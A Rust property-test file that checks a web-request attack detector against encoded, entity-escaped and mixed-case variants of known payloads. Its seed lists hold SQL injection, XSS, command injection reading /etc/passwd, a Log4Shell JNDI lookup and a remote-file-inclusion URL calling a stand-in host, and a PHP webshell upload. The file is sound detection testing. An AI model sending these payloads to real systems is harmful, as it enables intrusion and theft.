//! What must hold for every request: no panic, bounds kept, evasions of a known attack seen.

use inspect::{
    ATTACK_SCORE_MIN, AccessLog, Answer, Class, EVIDENCE_BYTES_MAX, FINDINGS_MAX, Grade, Request,
    Verdict, inspect, inspect_access_log,
};
use proptest::prelude::*;

/// Of a megabyte, at least so much must lie beyond some bound.
const UNSEEN_BYTES_MIN: usize = 256 * 1024;

/// Attacks that are detected as they stand.
const SEEDS: &[(&str, Class)] = &[
    ("1' or 1=1 -- ", Class::SqlInjection),
    ("-1 union select 1,2,version()", Class::SqlInjection),
    ("1; drop table users --", Class::SqlInjection),
    ("<script>alert(1)</script>", Class::CrossSiteScripting),
    ("<img src=x onerror=alert(1)>", Class::CrossSiteScripting),
    ("../../../../etc/passwd", Class::PathTraversal),
    (";cat /etc/passwd", Class::CommandInjection),
    ("|| whoami", Class::CommandInjection),
    ("${jndi:ldap://203.0.113.9/a}", Class::Log4shell),
    ("{{7*7}}", Class::TemplateInjection),
    ("http://203.0.113.9/shell.txt?cmd=id", Class::RemoteFileInclusion),
    ("data://text/plain;base64,PD9waHA=", Class::RemoteFileInclusion),
    ("x' or name()='user' or 'x'='y", Class::XpathInjection),
    ("'] | //user/*[contains(*,'", Class::XpathInjection),
    ("{\"__proto__\":{\"admin\":1}}", Class::PrototypePollution),
    ("constructor[prototype][admin]=1", Class::PrototypePollution),
    ("a\r\nset-cookie: phpsessid=1", Class::SessionFixation),
    ("<script>document.cookie=\"sessionid=1\"</script>", Class::SessionFixation),
];

/// Names of files that are detected as they stand.
const FILENAMES: &[&str] =
    &["shell.php", "shell.php.jpg", "a.phtml", "x.asp;.jpg", ".htaccess", "../../x.jsp"];
/// Requests in whose headers and bodies every byte may be changed.
const WHOLE: &[(&str, &str)] = &[
    (
        "Transfer-Encoding: chunked\nContent-Length: 4",
        "3\r\na=b\r\n0\r\n\r\nGET /x HTTP/1.1\r\n\r\n",
    ),
    ("Origin: https://evil.test\nCookie: s=1; XSRF-TOKEN=a\nX-XSRF-TOKEN: b", "to=eve&code=1"),
    (
        "Content-Type: multipart/form-data; boundary=b",
        "--b\r\nContent-Disposition: form-data; name=f; filename=\"a.php.gif\"\r\nContent-Type: image/gif\r\n\r\nGIF89a<?php system($_GET[1]);PK\x03\x04\r\n--b--",
    ),
    ("Content-Type: application/json", "{\"constructor\":{\"prototype\":{\"a\":\"\\u0041\"}}}"),
    ("Referer: https://evil.test/\nSec-Fetch-Site: cross-site", "<svg onload=alert(1)><script>"),
];

fn bytes_with_signs() -> impl Strategy<Value = Vec<u8>> {
    let sign = prop::sample::select(&b"'\"<>()%&;|`${}[]\\/*-#=+.,:!@ \r\n\0uxselctonr0123"[..]);
    prop::collection::vec(prop_oneof![3 => sign, 1 => any::<u8>()], 0..400)
}

proptest! {
    #[test]
    fn no_bytes_panic_or_break_a_bound(bytes in bytes_with_signs(), body in bytes_with_signs()) {
        let text = String::from_utf8_lossy(&bytes);
        for media in ["application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=b", ""] {
            let headers = [("Content-Type", media), ("Cookie", text.as_ref()), ("Referer", text.as_ref()), ("User-Agent", text.as_ref())];
            let verdict = inspect(&Request {
                method: "POST", target: &text, version: "HTTP/1.1", headers: &headers, body: &body, whole: true,
            });
            prop_assert!(verdict.findings.len() <= FINDINGS_MAX);
            prop_assert!((0.0..=1.0).contains(&verdict.score));
            for finding in &verdict.findings {
                prop_assert!(finding.evidence.len() <= EVIDENCE_BYTES_MAX);
                prop_assert!(finding.score <= verdict.score);
            }
        }
    }

    #[test]
    fn encoded_seeds_are_seen(seed in 0..SEEDS.len(), rounds in 1..=3_usize, every in any::<bool>()) {
        let (payload, class) = SEEDS[seed];
        let mut encoded = payload.to_owned();
        for _ in 0..rounds {
            encoded = percent(&encoded, if every { Encode::All } else { Encode::Signs });
        }
        prop_assert!(finds(&encoded, class), "{encoded}");
    }

    #[test]
    fn seeds_in_entities_are_seen(seed in 0..SEEDS.len(), decimal in any::<bool>()) {
        let (payload, class) = SEEDS[seed];
        let encoded: String = payload
            .chars()
            .map(|c| match (c.is_ascii_alphanumeric(), decimal) {
                (true, _) => c.to_string(),
                (false, true) => format!("&#{};", u32::from(c)),
                (false, false) => format!("&#x{:x};", u32::from(c)),
            })
            .collect();
        prop_assert!(finds(&percent(&encoded, Encode::Signs), class), "{encoded}");
    }

    #[test]
    fn file_names_in_disguise_are_seen(name in 0..FILENAMES.len(), rounds in 0..=3_usize, upper in any::<u64>(), entities in any::<bool>()) {
        let mut shown = mixed_case(FILENAMES[name], upper);
        if entities {
            shown = shown.replace('.', "&#46;");
        }
        for _ in 0..rounds {
            shown = percent(&shown, Encode::Signs);
        }
        let body = format!("--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{shown}\"\r\n\r\nx\r\n--b--");
        let headers = [("Content-Type", "multipart/form-data; boundary=b")];
        let verdict = inspect(&Request {
            method: "POST", target: "/", version: "1.1", headers: &headers, body: body.as_bytes(), whole: true,
        });
        prop_assert!(verdict.findings.iter().any(|finding| finding.class == Class::MaliciousUpload && verdict.attack), "{shown}");
    }

    #[test]
    fn names_of_headers_in_any_case_are_read(upper in any::<u64>()) {
        let names = ["transfer-encoding", "content-length", "origin", "cookie"];
        let names = names.map(|name| mixed_case(name, upper));
        let [coding, length, origin, cookie] = &names;
        let headers = [
            ("Host", "shop.example"), (coding.as_str(), "chunked"), (length.as_str(), "4"),
            (origin.as_str(), "https://evil.test"), (cookie.as_str(), "s=1"),
        ];
        let verdict = inspect(&Request {
            method: "post", target: "/", version: "1.1", headers: &headers, body: b"", whole: true,
        });
        for class in [Class::RequestSmuggling, Class::CrossSiteRequestForgery] {
            prop_assert!(verdict.findings.iter().any(|f| f.class == class && f.score >= 0.5), "{class} {headers:?}");
        }
    }

    #[test]
    fn no_change_to_a_whole_request_panics(
        which in 0..WHOLE.len(),
        changes in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>(), 0..3_u8), 0..12),
        status in any::<Option<u16>>(),
        size in any::<(Option<u64>, Option<u64>, Option<u64>)>(),
        usual in any::<(Option<u64>, bool)>(),
    ) {
        let (head, body) = WHOLE[which];
        let mut bytes = [head.as_bytes(), b"\0", body.as_bytes()].concat();
        for (place, byte, how) in changes {
            let at = place.index(bytes.len());
            match how {
                0 => bytes[at] = byte,
                1 => bytes.insert(at, byte),
                _ => bytes.truncate(at.max(1)),
            }
        }
        let mut halves = bytes.splitn(2, |byte| *byte == 0);
        let head = String::from_utf8_lossy(halves.next().unwrap_or_default()).into_owned();
        let headers: Vec<(&str, &str)> = head.lines().filter_map(|line| line.split_once(": ")).collect();
        let verdict = inspect(&Request {
            method: "POST", target: "/", version: "1.1", headers: &headers, body: halves.next().unwrap_or_default(), whole: true,
        });
        let (bytes, milliseconds, usual_bytes) = size;
        let (usual_milliseconds, is_slow) = usual;
        let answer = Answer { status, bytes, milliseconds, usual_bytes, usual_milliseconds, is_slow };
        let judged = verdict.judge(&answer);
        prop_assert!((0.0..=1.0).contains(&judged.score));
        prop_assert!(!verdict.attack || judged.score >= ATTACK_SCORE_MIN, "no outcome silences an attack");
        for finding in &verdict.findings {
            prop_assert_eq!(finding.grade == Grade::Mention, finding.score < ATTACK_SCORE_MIN);
            prop_assert!(finding.evidence.len() <= EVIDENCE_BYTES_MAX);
        }
    }

    #[test]
    fn case_does_not_hide(seed in 0..SEEDS.len(), upper in any::<u64>()) {
        let (payload, class) = SEEDS[seed];
        let mixed = mixed_case(payload, upper);
        prop_assert!(finds(&percent(&mixed, Encode::Signs), class), "{mixed}");
    }

    #[test]
    fn spaces_do_not_hide_sql(space in prop::sample::select(&["/**/", "\t", "\n", "/*x*/", "  ", "\u{b}", "/*!*/"][..])) {
        for (payload, class) in SEEDS.iter().filter(|(_, class)| *class == Class::SqlInjection) {
            let spaced = payload.replace(' ', space);
            prop_assert!(finds(&percent(&spaced, Encode::Signs), *class), "{spaced}");
        }
    }

    #[test]
    fn words_and_numbers_are_clean(words in prop::collection::vec("[a-z]{1,12}|[0-9]{1,8}", 1..12)) {
        // English joins words with "and" and "or" as SQL does; alone they must mean nothing.
        let target = format!("/find?q={}", words.join("+"));
        prop_assert!(!verdict(&target).attack, "{target}");
    }
}

#[test]
fn a_megabyte_is_bounded() {
    for pattern in [
        "'", "<", "((", "../", ";a ", "${", "&#", "%25", "or 1=", "$(", "\\x", "on", "alert", "{{",
        "a=b&",
    ] {
        let body = pattern.repeat((1 << 20) / pattern.len());
        for media in ["text/plain", "application/json", "application/x-www-form-urlencoded"] {
            let verdict = inspect(&Request {
                method: "POST",
                target: "/",
                version: "HTTP/1.1",
                headers: &[("content-type", media)],
                body: body.as_bytes(),
                whole: true,
            });
            assert!(verdict.unseen_bytes > UNSEEN_BYTES_MIN, "{pattern} {media}");
        }
    }
}

#[derive(Clone, Copy)]
enum Encode {
    All,
    Signs,
}

fn percent(text: &str, encode: Encode) -> String {
    text.bytes()
        .map(|byte| match (encode, byte) {
            (Encode::Signs, b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9') => {
                char::from(byte).to_string()
            }
            _ => format!("%{byte:02x}"),
        })
        .collect()
}

fn mixed_case(text: &str, upper: u64) -> String {
    text.chars()
        .enumerate()
        .map(|(at, c)| if upper >> (at % 64) & 1 == 1 { c.to_ascii_uppercase() } else { c })
        .collect()
}

fn finds(value: &str, class: Class) -> bool {
    let verdict = verdict(&format!("/item?id={value}"));
    verdict.attack && verdict.findings.iter().any(|finding| finding.class == class)
}

fn verdict(target: &str) -> Verdict {
    inspect_access_log(&AccessLog { method: "GET", target, ..AccessLog::default() })
}
